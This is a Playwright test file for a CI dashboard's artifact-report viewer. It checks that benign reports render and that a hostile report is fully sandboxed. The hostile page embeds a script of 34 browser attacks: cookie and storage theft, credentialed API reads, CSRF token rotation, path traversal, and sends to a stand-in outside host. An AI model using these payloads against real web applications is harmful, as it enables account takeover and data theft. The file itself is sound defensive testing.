import type { Page } from '@playwright/test';
import type { Millrace } from '../support/millrace.ts';
import { expect, test } from '../support/test.ts';
import { pipelineOf, WorkTree } from '../support/work-tree.ts';

const benign = {
  'site/index.html': `<!doctype html><html lang="en"><head><title>Coverage</title>
<link rel="stylesheet" href="assets/style.css"><script src="assets/app.js" defer></script></head>
<body><h1>Coverage</h1><p id="fetched"></p><p id="asked"></p><p id="module"></p><p id="stored"></p>
<img src="assets/dot.svg" alt="dot"><iframe src="pages/frame.html" title="part"></iframe>
<a href="pages/detail.html?of=a#part">Detail</a><a href="data/">Data</a>
<script type="module" src="./assets/module.js"></script></body></html>`,
  'site/assets/style.css': 'h1 { color: rgb(1, 2, 3) }',
  'site/assets/dot.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
  'site/assets/app.js': `const show = (id, text) => { document.getElementById(id).textContent = text; };
fetch('data/results.json').then((answer) => answer.json()).then(({ lines }) => show('fetched', lines));
const call = new XMLHttpRequest();
call.onload = () => show('asked', call.responseText);
call.open('GET', 'data/results.json?again');
call.send();
localStorage.setItem('theme', 'dark');
localStorage.size = 3;
show('stored', [localStorage.theme, localStorage.getItem('size'), localStorage.length,
  localStorage.getItem('none'), document.cookie].join());`,
  'site/assets/module.js': `import { text } from './other.js';
document.getElementById('module').textContent = text;`,
  'site/assets/other.js': `export const text = 'a module';`,
  'site/data/results.json': '{"lines":"93 %"}',
  'site/pages/frame.html': '<p id="inner"></p><script src="frame.js"></script>',
  'site/pages/frame.js': `document.getElementById('inner').textContent = 'in a frame';`,
  'site/pages/detail.html': `<!doctype html><link rel="stylesheet" href="../assets/style.css">
<h1 id="part">Detail</h1><p id="place"></p><a href="../">Back</a>
<script>document.getElementById('place').textContent = location.search + location.hash;</script>`,
};

/** Tries everything that a report must not do. An attack that succeeds resolves, and its result is recorded. */
const hostile = (slug: string) => `<!doctype html><title>Hostile</title>
<form id="form" action="/api/user/token?rotate=true" method="post" target="sink"></form><iframe name="sink"></iframe>
<form id="leave" action="/api/repos/${slug}/builds" method="post"></form>
<img src="/api/user"><script src="/api/user"></script><link rel="stylesheet" href="/api/user">
<script>
const other = decodeURIComponent(location.hash.slice(1));
const untilLoaded = (element) => new Promise((done, failed) => {
  element.onload = () => done(element);
  element.onerror = () => failed(new Error('not loaded'));
  document.body.append(element);
});
const framed = async (src) => {
  const frame = await untilLoaded(Object.assign(document.createElement('iframe'), { src }));
  return frame.contentDocument.body.innerHTML;
};
const loaded = async (name, fields) => {
  await untilLoaded(Object.assign(document.createElement(name), fields));
  return 'loaded';
};
const asked = (method, url) => new Promise((done, failed) => {
  const call = new XMLHttpRequest();
  call.withCredentials = true;
  call.onload = () => done(call.responseText);
  call.onerror = () => failed(new Error('refused'));
  call.open(method, url);
  call.send();
});
const read = async (url, options) => (await fetch(url, options)).text();
const opened = async (url) => {
  const other = window.open(url);
  await new Promise((done) => setTimeout(done, 500));
  try { return other.document.body.innerHTML || Promise.reject(new Error('empty')); } finally { other.close(); }
};
const cookieOf = (target) => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(target);
const emptyFrame = () => document.body.appendChild(document.createElement('iframe')).contentWindow;
const attacks = {
  cookie: () => cookieOf(document),
  'cookie of a frame': () => cookieOf(emptyFrame().document),
  'storage of a frame': () => emptyFrame().localStorage,
  'storage of a window': () => { const empty = window.open(''); try { return empty.localStorage; } finally { empty.close(); } },
  database: () => indexedDB.open('a'),
  caches: () => caches.open('a'),
  worker: () => navigator.serviceWorker.register('worker.js'),
  'worker of the server': () => navigator.serviceWorker.register('/static/worker.js'),
  opener: () => window.opener.document.body.innerHTML,
  parent: () => { if (window.top !== window) return 'framed'; throw new Error('alone'); },
  'fetch account': () => read('/api/user'),
  'fetch account with cookies': () => read('/api/user', { credentials: 'include' }),
  'fetch account blindly': () => read('/api/user', { credentials: 'include', mode: 'no-cors' }),
  'change token': () => read('/api/user/token?rotate=true', { method: 'POST', credentials: 'include', mode: 'no-cors' }),
  'XHR account': () => asked('GET', '/api/user'),
  'XHR token': () => asked('POST', '/api/user/token?rotate=true'),
  'stream': () => new Promise((done, failed) => {
    const stream = new EventSource('/api/stream', { withCredentials: true });
    stream.onopen = () => done('open');
    stream.onerror = () => failed(new Error('refused'));
  }),
  'socket': () => new Promise((done, failed) => {
    const socket = new WebSocket(location.origin === 'null' ? 'ws://' + location.host + '/' : '/');
    socket.onopen = () => done('open');
    socket.onerror = () => failed(new Error('refused'));
  }),
  'frame dashboard': () => framed('/'),
  'frame account': () => framed('/api/user'),
  'frame other report': () => framed(other),
  'read other report': () => read(other),
  'ask for other report': () => read('/api/repos/${slug}/builds/1/reports/1/3', { credentials: 'include' }),
  'other report as an image': () => loaded('img', { src: other + 'dot.svg' }),
  'other report as a script': () => loaded('script', { src: other + 'secret.js' }),
  'artifact of other step': () => read('/api/repos/${slug}/builds/1/artifacts/1/3/other/secret.js'),
  'climb': () => read('../../' + other.replace('/reports/', '')),
  'climb by code': () => read('%2e%2e/%2e%2e/' + other.replace('/reports/', '')),
  'window of the dashboard': () => opened('/'),
  'window of the account': () => opened('/api/user'),
  'window of other report': () => opened(other),
  'send elsewhere': () => read('http://example.invalid/?' + document.title, { mode: 'no-cors' }),
  'send elsewhere as an image': () => loaded('img', { src: 'http://example.invalid/a.png' }),
  'script of the account in a worker': () => new Promise((done, failed) => {
    const code = "fetch('" + location.href.split('/reports/')[0] + "/api/user', { credentials: 'include' })" +
      ".then((answer) => answer.text()).then(postMessage, () => postMessage(''))";
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => data ? done(data) : failed(new Error('refused'));
    worker.onerror = () => failed(new Error('refused'));
  }),
};
(async () => {
  const succeeded = {};
  let tried = 0;
  for (const [name, attack] of Object.entries(attacks)) {
    tried++;
    const late = new Promise((_, failed) => setTimeout(() => failed(new Error('late')), 5000));
    try { succeeded[name] = String(await Promise.race([attack(), late])); } catch {}
  }
  localStorage.setItem('stolen', 'yes');
  document.cookie = 'stolen=yes';
  navigator.sendBeacon('/api/user/token?rotate=true');
  document.getElementById('form').submit();
  document.getElementById('leave').submit();
  location = 'javascript:void fetch("/api/user/token?rotate=true", { method: "POST" })';
  window.outcome = { own: await read('worker.js'), tried, succeeded, origin: self.origin };
})();
</script>`;

const pipeline = `${pipelineOf(['true'])}    artifacts: [ 'site/**', 'attack/**' ]
  - name: other
    commands: [ 'true' ]
    artifacts: [ 'other/**' ]
`;

async function pushReports(millrace: Millrace, slug: string): Promise<void> {
  const tree = await WorkTree.create(millrace, slug);
  const files = {
    ...benign,
    'attack/index.html': hostile(slug),
    'attack/worker.js': '// own',
    'other/index.html': 'secret',
    'other/secret.js': 'window.secret = 1',
    'other/dot.svg': benign['site/assets/dot.svg'],
  };
  await tree.commit({ '.drone.yml': pipeline, ...files }, 'Leave reports');
  await tree.push();
}

async function openFiles(page: Page, millrace: Millrace, slug: string) {
  await page.goto(`${millrace.url}/${slug}/1`);
  await page.getByRole('button', { name: 'Artifacts' }).click();
  await expect(page.getByText('15 files, ').first()).toBeVisible();
}

/** Opens a link that leads to a new tab. */
async function follow(page: Page, name: string): Promise<Page> {
  const [report] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('link', { name }).click(),
  ]);
  await report.waitForLoadState();
  return report;
}

test('opens a report whose parts and links are relative', async ({
  millrace,
  slug,
  signedIn: page,
}) => {
  await pushReports(millrace, slug);
  await openFiles(page, millrace, slug);
  await page.getByTitle('site/index.html', { exact: true }).click();
  const report = await follow(page, 'Open site/index.html with its scripts in a new tab');
  await expect(report.locator('#fetched')).toHaveText('93 %');
  await expect(report.locator('#asked')).toHaveText('{"lines":"93 %"}');
  await expect(report.locator('#module')).toHaveText('a module');
  await expect(report.locator('#stored')).toHaveText('dark,3,2,,');
  await expect(report.frameLocator('iframe').locator('#inner')).toHaveText('in a frame');
  await expect(report.getByRole('heading')).toHaveCSS('color', 'rgb(1, 2, 3)');
  const dot = report.getByRole('img', { name: 'dot' });
  await expect.poll(() => dot.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(9);
  expect(await report.evaluate(() => document.compatMode)).toBe('CSS1Compat');

  await report.getByRole('link', { name: 'Detail' }).click();
  await expect(report.locator('#place')).toHaveText('?of=a#part');
  await expect(report.getByRole('heading')).toHaveCSS('color', 'rgb(1, 2, 3)');
  await report.getByRole('link', { name: 'Back' }).click();
  await report.getByRole('link', { name: 'Data' }).click();
  await expect(report).toHaveTitle('/site/data/');
  await expect(report.getByRole('link', { name: 'results.json' })).toBeVisible();
  await report.close();

  const all = await follow(page, 'Open the files of default / work in a new tab');
  await all.getByRole('link', { name: 'site/' }).click();
  await expect(all).toHaveTitle('Coverage');
  await all.close();
});

test('gives a hostile report no access to anything', async ({ millrace, slug, signedIn: page }) => {
  await pushReports(millrace, slug);
  await openFiles(page, millrace, slug);
  const tokenOf = () =>
    page.evaluate(async () => {
      const answer = await fetch('/api/user/token', { method: 'POST' });
      return (await answer.json()).token as string;
    });
  const before = await tokenOf();
  const mint = async (step: number, path: string) => {
    const url = `${millrace.url}/api/repos/${slug}/builds/1/reports/1/${step}?path=${path}`;
    return (await page.request.get(url, { maxRedirects: 0 })).headers().location ?? '';
  };
  const other = await mint(3, 'other/');
  const own = await mint(2, 'attack/');

  await page.getByTitle('attack/index.html', { exact: true }).click();
  const report = await follow(page, 'Open attack/index.html with its scripts in a new tab');
  expect(await report.evaluate(() => window.opener)).toBeNull();
  await report.goto('about:blank');
  const answered: string[] = [];
  report.on('response', (response) => answered.push(new URL(response.url()).pathname));
  await report.goto(`${millrace.url}${own}#${encodeURIComponent(other)}`);
  const outcome = await report.waitForFunction(
    () => (window as { outcome?: object }).outcome,
    null,
    {
      timeout: 120_000,
    },
  );
  expect(await outcome.jsonValue()).toEqual({
    own: '// own',
    tried: 34,
    succeeded: {},
    origin: 'null',
  });
  const folder = own.replace(/attack\/$/, '');
  expect(
    answered.filter(
      (path) => path.startsWith('/') && !path.startsWith(folder) && path !== '/favicon.ico',
    ),
  ).toEqual([]);
  await report.close();

  // The account, its session, its token, its storage and the builds are as before.
  expect(await tokenOf()).toBe(before);
  await page.reload();
  expect(await page.evaluate(() => localStorage.getItem('stolen') ?? document.cookie)).toBe('');
  const builds = await page.request.get(`${millrace.url}/api/repos/${slug}/builds`);
  expect(await builds.json()).toHaveLength(1);
});
